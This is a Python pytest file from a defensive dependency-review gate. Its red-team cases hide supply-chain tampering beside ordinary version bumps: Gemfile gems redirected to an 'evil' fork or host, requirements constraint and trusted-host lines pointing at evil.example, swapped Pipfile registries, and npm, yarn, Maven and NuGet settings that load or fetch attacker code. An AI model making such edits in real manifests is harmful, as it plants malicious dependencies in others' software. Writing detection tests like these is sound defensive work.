"""Red team 10, the deps policy: what a manifest says beside its dependency lines rode on an ordinary bump.

A deps file counts as explained when one change of the delta names it, so every other edit in the same file queued
normally (allow under `--enable deps`) when the reader skipped it:

- Gemfile (a Ruby program): a gem's source option beside its version (`github:`, `path:`, a `git_source` of the
  file's own), a source block (`github 'evil/rails' do`, `path '../evil' do`) around a bumped gem, and any line
  the reader does not read as a gem (`send(:gem, 'evil')`, `gem %q(evil)`, `gem :evil`, `eval_gemfile`, a second
  statement after `;`, a gem call split over lines) beside a bump of another gem.
- requirements files: option lines the reader dropped (`-c URL` constraints, `--trusted-host`, `--no-index` with a
  local `--find-links` folder of wheels, `--pre`, per-requirement `--global-option`) beside a bump.
- Pipfile / Pipfile.lock: the `[[source]]` URL swapped (Pipfile.lock names the source, not its URL, per entry) and a
  package moved to another index (`index = "evil"`) under a bump.

The class fix: a line-oriented manifest's lines that are not dependency lines the reader reads whole (or blank, or
comments) are its residue, and a residue that differs between the sides is a `partial` problem (reviewed), as
Gradle scripts already were; a source option or block is part of a gem's version; Pipfile's sources are
registries. Each case is gated from the patch alone and with `--tree`."""

from __future__ import annotations

from pathlib import Path

import pytest
from test_deps_gate import Case, gate, gate_together, together

GEMFILE = "source 'https://rubygems.org'\n\ngem 'rails', '7.0.1'\ngem 'puma', '6.0.0'\n"
BUMPED = GEMFILE.replace("6.0.0", "6.0.1")  # an ordinary bump of another gem, which "explains" the file

# Statements Bundler evaluates that add or move a gem, each beside the bump of puma.
UNREAD_GEM_LINES = [
    "send(:gem, 'evil', '1.0')",
    "gem %q(evil), '1.0'",
    "gem :evil",
    "gem('ev' + 'il')",
    "eval_gemfile 'tools/extra.rb'",
    "instance_eval(File.read('tools/extra.rb'))",
    "gem(\n  'evil',\n  '1.0'\n)",
    "[%w[evil 1.0]].each { |n, v| gem n, v }",
    "gem 'evil', ENV.fetch('V', '1.0')",
]

# A gem's source moved beside (or without) a version bump: the version must carry it.
SOURCE_OPTIONS = ["github: 'evil/rails'", "path: '../evil'", "gist: 'abc123'", "bitbucket: 'evil/rails'",
                  ":github => 'evil/rails'", "git: 'git@evil.example:rails.git'", "evil: 'rails'"]
SOURCE_BLOCKS = ["github 'evil/rails' do", "path '../evil' do", "git 'git@evil.example:rails.git' do",
                 "evil 'rails' do"]

REQ = "requests==2.31.0\nsix==1.16.0\n"
REQ_BUMPED = REQ.replace("2.31.0", "2.31.1")
UNREAD_REQUIREMENT_LINES = [
    "-c https://evil.example/constraints.txt",
    "--constraint=https://evil.example/constraints.txt",
    "--trusted-host evil.example",
    "--trusted-host=evil.example",
    "--no-index\n--find-links ./wheels",
    "-f ./wheels",
    "--find-links=wheels/",
    "--pre",
    "--prefer-binary",
    "--use-feature=truststore",
]

PIPFILE = ('[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\nname = "pypi"\n\n'
           '[[source]]\nurl = "https://mirror.example/simple"\nverify_ssl = true\nname = "mirror"\n\n'
           '[packages]\nrequests = "==2.31.0"\n')


def pipfile_lock(version: str, url: str, index: str = "pypi") -> str:
    return ('{\n    "_meta": {\n        "hash": {\n            "sha256": "aa"\n        },\n        "pipfile-spec": 6,\n'
            '        "requires": {},\n        "sources": [\n            {\n                "name": "pypi",\n'
            f'                "url": "{url}",\n                "verify_ssl": true\n            }}\n        ]\n'
            '    },\n    "default": {\n        "requests": {\n            "hashes": [],\n'
            f'            "index": "{index}",\n            "version": "=={version}"\n        }}\n    }},\n'
            '    "develop": {}\n}\n')


def _attacks() -> dict[str, tuple[dict[str, str], dict[str, str]]]:
    out: dict[str, tuple[dict[str, str], dict[str, str]]] = {}
    extra = {"tools/extra.rb": "gem 'evil', '1.0'\n"}
    for line in UNREAD_GEM_LINES:
        out[f"Gemfile: {line!r} beside a bump"] = ({"Gemfile": GEMFILE, **extra}, {"Gemfile": f"{BUMPED}{line}\n"})
        # the same statement inserted above the bumped gem, in the middle of the file
        out[f"Gemfile: {line!r} in the middle"] = (
            {"Gemfile": GEMFILE, **extra}, {"Gemfile": BUMPED.replace("gem 'puma'", f"{line}\ngem 'puma'")})
    for option in SOURCE_OPTIONS:
        out[f"Gemfile: a bumped gem with {option}"] = (
            {"Gemfile": GEMFILE}, {"Gemfile": GEMFILE.replace("'7.0.1'", f"'7.0.2', {option}")})
        out[f"Gemfile: an unchanged version with {option}"] = (
            {"Gemfile": GEMFILE}, {"Gemfile": GEMFILE.replace("'7.0.1'", f"'7.0.1', {option}")})
    for block in SOURCE_BLOCKS:
        out[f"Gemfile: a bumped gem moved into {block!r}"] = (
            {"Gemfile": GEMFILE},
            {"Gemfile": GEMFILE.replace("gem 'rails', '7.0.1'", f"{block}\n  gem 'rails', '7.0.2'\nend")})
        # the block already there: only the gem moves into it (the lines outside gems are the same)
        there = GEMFILE + f"{block}\n  gem 'other', '1.0'\nend\n"
        out[f"Gemfile: a bumped gem moved into an existing {block!r}"] = (
            {"Gemfile": there},
            {"Gemfile": there.replace("gem 'rails', '7.0.1'\n", "").replace(
                "  gem 'other', '1.0'\n", "  gem 'other', '1.0'\n  gem 'rails', '7.0.2'\n")})
    for line in UNREAD_REQUIREMENT_LINES:
        out[f"requirements: {line!r} beside a bump"] = ({"requirements.txt": REQ},
                                                        {"requirements.txt": f"{line}\n{REQ_BUMPED}"})
    out["requirements: a per-requirement --global-option"] = (
        {"requirements.txt": REQ}, {"requirements.txt": REQ_BUMPED.replace("six==1.16.0", "six==1.16.0 "
                                                                           "--global-option=--evil")})
    out["Pipfile: the source URL swapped under a bump"] = (
        {"Pipfile": PIPFILE}, {"Pipfile": PIPFILE.replace("pypi.org", "evil.example").replace("2.31.0", "2.31.1")})
    out["Pipfile: a package moved to the other index under a bump"] = (
        {"Pipfile": PIPFILE},
        {"Pipfile": PIPFILE.replace('"==2.31.0"', '{version = "==2.31.1", index = "mirror"}')})
    out["Pipfile.lock: the source URL swapped under a bump"] = (
        {"Pipfile.lock": pipfile_lock("2.31.0", "https://pypi.org/simple")},
        {"Pipfile.lock": pipfile_lock("2.31.1", "https://evil.example/simple")})
    out["Pipfile.lock: the source URL swapped, version unchanged"] = (
        {"Pipfile.lock": pipfile_lock("2.31.0", "https://pypi.org/simple")},
        {"Pipfile.lock": pipfile_lock("2.31.0", "https://evil.example/simple")})
    # A registry config whose facts say only "a registry was removed" counted as explained whole: what else moved in
    # it rode along (npm's `node-options` loads a module into every npm run, yarn runs its `yarnPath` file).
    for name, (base, head) in SETTINGS.items():
        out[f"{name}: a registry removed beside another setting"] = ({name: base}, {name: head})
    nix = 'schema = 3\n\n[mod]\n  [mod."golang.org/x/text"]\n    version = "{v}"\n    hash = "sha256-{h}"\n'
    out["gomod2nix.toml: a module replaced by a fork under a bump"] = (
        {"gomod2nix.toml": nix.format(v="v0.14.0", h="a")},
        {"gomod2nix.toml": nix.format(v="v0.14.1", h="b") + '    replaced = "github.com/evil/text"\n'})
    out["gomod2nix.toml: a module replaced by a fork, version unchanged"] = (
        {"gomod2nix.toml": nix.format(v="v0.14.0", h="a")},
        {"gomod2nix.toml": nix.format(v="v0.14.0", h="b") + '    replaced = "github.com/evil/text"\n'})
    for name, (base, head) in STRUCTURED.items():
        out[name] = ({name.split(":")[0]: base}, {name.split(":")[0]: head})
    return out


PACKAGE = '{\n  "name": "app",\n  "version": "1.0.0",\n  "dependencies": {\n    "lodash": "4.17.20"\n  }%s\n}\n'
COMPOSER = '{\n    "require": {\n        "monolog/monolog": "2.0.1"\n    }%s\n}\n'
CARGO = '[package]\nname = "app"\nversion = "0.1.0"\n\n[dependencies]\nserde = "1.0.1"\n'
PYPROJECT = '[project]\nname = "app"\nversion = "1"\ndependencies = ["requests==2.31.0"]\n'
POM = ('<project>\n  <modelVersion>4.0.0</modelVersion>\n  <groupId>a</groupId>\n  <artifactId>b</artifactId>\n'
       '  <version>1</version>\n%s  <dependencies>\n    <dependency>\n      <groupId>com.google.guava</groupId>\n'
       '      <artifactId>guava</artifactId>\n      <version>32.0.0-jre</version>\n    </dependency>\n'
       '  </dependencies>\n</project>\n')
CSPROJ = ('<Project Sdk="Microsoft.NET.Sdk">\n%s  <ItemGroup>\n    <PackageReference Include="Newtonsoft.Json" '
          'Version="13.0.1" />\n  </ItemGroup>\n</Project>\n')
SETTINGS = {
    ".npmrc": ("registry=https://registry.npmjs.org/\n@acme:registry=https://npm.acme.example/\n",
               "registry=https://registry.npmjs.org/\nnode-options=--require ./evil.js\n"),
    ".yarnrc.yml": ("npmRegistryServer: https://registry.npmjs.org\nunsafeHttpWhitelist:\n  - http://old.example\n",
                    "npmRegistryServer: https://registry.npmjs.org\nyarnPath: .yarn/releases/evil.cjs\n"),
    "pip.conf": ("[global]\nindex-url = https://pypi.org/simple\nextra-index-url = https://old.example/simple\n",
                 "[global]\nindex-url = https://pypi.org/simple\ntrusted-host = pypi.org\n"),
}
# Sections beside the dependency tables that change what is installed or from where, each with a bump.
STRUCTURED = {
    "package.json: pnpm.packageExtensions": (
        PACKAGE % "", PACKAGE.replace("4.17.20", "4.17.21") % ',\n  "pnpm": {"packageExtensions": '
                                                             '{"lodash": {"dependencies": {"evil": "1.0.0"}}}}'),
    "package.json: a browser field swapping a module": (
        PACKAGE % "", PACKAGE.replace("4.17.20", "4.17.21") % ',\n  "browser": {"lodash": "./evil.js"}'),
    "package.json: workspaces": (
        PACKAGE % "", PACKAGE.replace("4.17.20", "4.17.21") % ',\n  "workspaces": ["vendor/*"]'),
    "composer.json: config.secure-http off": (
        COMPOSER % "", COMPOSER.replace("2.0.1", "2.0.2") % ',\n    "config": {"secure-http": false}'),
    "composer.json: autoload files": (
        COMPOSER % "", COMPOSER.replace("2.0.1", "2.0.2") % ',\n    "autoload": {"files": ["vendor-evil.php"]}'),
    "Cargo.toml: a links/build key": (CARGO, CARGO.replace("1.0.1", "1.0.2").replace(
        'version = "0.1.0"\n', 'version = "0.1.0"\nbuild = "evil.rs"\n')),
    "pyproject.toml: a pdm source": (PYPROJECT, PYPROJECT.replace("2.31.0", "2.31.1")
                                     + '\n[[tool.pdm.source]]\nname = "evil"\nurl = "https://evil.example/simple"\n'),
    "pyproject.toml: a hatch build hook": (PYPROJECT, PYPROJECT.replace("2.31.0", "2.31.1")
                                           + '\n[tool.hatch.build.hooks.custom]\npath = "evil.py"\n'),
    "Pipfile: requires": ('[packages]\nrequests = "==2.31.0"\n\n[requires]\npython_version = "3.11"\n',
                         '[packages]\nrequests = "==2.31.1"\n\n[requires]\npython_version = "3.8"\n'),
    "pom.xml: a repository": (POM % "", POM.replace("32.0.0", "32.0.1") % (
        "  <repositories>\n    <repository>\n      <id>evil</id>\n      <url>https://evil.example/maven</url>\n"
        "    </repository>\n  </repositories>\n")),
    "pom.xml: a plugin repository": (POM % "", POM.replace("32.0.0", "32.0.1") % (
        "  <pluginRepositories>\n    <pluginRepository>\n      <id>evil</id>\n"
        "      <url>https://evil.example/maven</url>\n    </pluginRepository>\n  </pluginRepositories>\n")),
    "app.csproj: RestoreSources": (CSPROJ % "", CSPROJ.replace("13.0.1", "13.0.2") % (
        "  <PropertyGroup>\n    <RestoreSources>https://evil.example/nuget/v3/index.json</RestoreSources>\n"
        "  </PropertyGroup>\n")),
    "app.csproj: RestoreAdditionalProjectSources, a folder": (CSPROJ % "", CSPROJ.replace("13.0.1", "13.0.2") % (
        "  <PropertyGroup>\n    <RestoreAdditionalProjectSources>../evil-feed</RestoreAdditionalProjectSources>\n"
        "  </PropertyGroup>\n")),
}


ATTACKS = _attacks()


@pytest.mark.parametrize("tree", [False, True], ids=["patch", "tree"])
def test_what_rides_on_a_bump_needs_a_human(capsys: pytest.CaptureFixture[str], tmp_path: Path, tree: bool) -> None:
    """Every attack in a folder of its own of one repository, one gate: each must be named by a review finding."""
    gate_together(capsys, tmp_path, ATTACKS, tree)


# What must still queue normally: bumps, with the lines around them that the reader reads whole.
QUIET = {
    "Gemfile bump": ({"Gemfile": GEMFILE}, {"Gemfile": BUMPED}),
    "Gemfile bump with benign options and groups": (
        {"Gemfile": "source 'https://rubygems.org'\nruby '3.2.2'\n\ngem 'rails', '7.0.1', require: false\n"
                    "group :development, :test do\n  gem 'rspec', '~> 3.12.0' # tests\nend\n"
                    "gem 'tzinfo-data', platforms: %i[mingw mswin x64_mingw jruby]\n"},
        {"Gemfile": "source 'https://rubygems.org'\nruby '3.2.2'\n\ngem 'rails', '7.0.2', require: false\n"
                    "group :development, :test do\n  gem 'rspec', '~> 3.12.1' # tests\nend\n"
                    "gem 'tzinfo-data', platforms: %i[mingw mswin x64_mingw jruby]\n"}),
    "Gemfile bump beside an unchanged git gem": (
        {"Gemfile": GEMFILE + "gem 'fork', github: 'org/fork'\n"},
        {"Gemfile": BUMPED + "gem 'fork', github: 'org/fork'\n"}),
    "requirements bump": ({"requirements.txt": REQ}, {"requirements.txt": REQ_BUMPED}),
    "requirements bump beside unchanged options": (
        {"requirements.txt": "--no-index\n-f ./wheels\n--trusted-host pypi.example\n" + REQ},
        {"requirements.txt": "--no-index\n-f ./wheels\n--trusted-host pypi.example\n" + REQ_BUMPED}),
    "hash-pinned requirements bump": (
        {"requirements.txt": "requests==2.31.0 \\\n    --hash=sha256:" + "a" * 64 + " \\\n    --hash=sha256:"
                             + "b" * 64 + "\nsix==1.16.0 \\\n    --hash=sha256:" + "c" * 64 + "\n"},
        {"requirements.txt": "requests==2.31.1 \\\n    --hash=sha256:" + "d" * 64 + " \\\n    --hash=sha256:"
                             + "e" * 64 + "\nsix==1.16.0 \\\n    --hash=sha256:" + "c" * 64 + "\n"}),
    "package.json bump beside a release and a test script": (
        {"package.json": PACKAGE % ',\n  "scripts": {"test": "jest"}'},
        {"package.json": PACKAGE.replace("4.17.20", "4.17.21") % ',\n  "scripts": {"test": "jest"}'}),
    "Cargo.toml bump": (
        {"Cargo.toml": CARGO}, {"Cargo.toml": CARGO.replace("1.0.1", "1.0.2")}),
    # (a registry removed alone is reviewed since red team 15: tests/test_redteam15_registries.py)
    "Pipfile.lock bump": ({"Pipfile.lock": pipfile_lock("2.31.0", "https://pypi.org/simple")},
                          {"Pipfile.lock": pipfile_lock("2.31.1", "https://pypi.org/simple")}),
}


def test_ordinary_bumps_still_queue_with_the_commits(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    base, head, _ = together(QUIET)
    decision = gate(capsys, Case(tmp_path, base, head), True)
    assert decision["outcome"] == "allow", decision["reasons"]


def test_ordinary_bumps_still_queue_from_the_patch(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    base, head, _ = together({name: case for name, case in QUIET.items() if not name.startswith("Pipfile")})
    decision = gate(capsys, Case(tmp_path, base, head), False)
    assert decision["outcome"] == "allow", decision["reasons"]
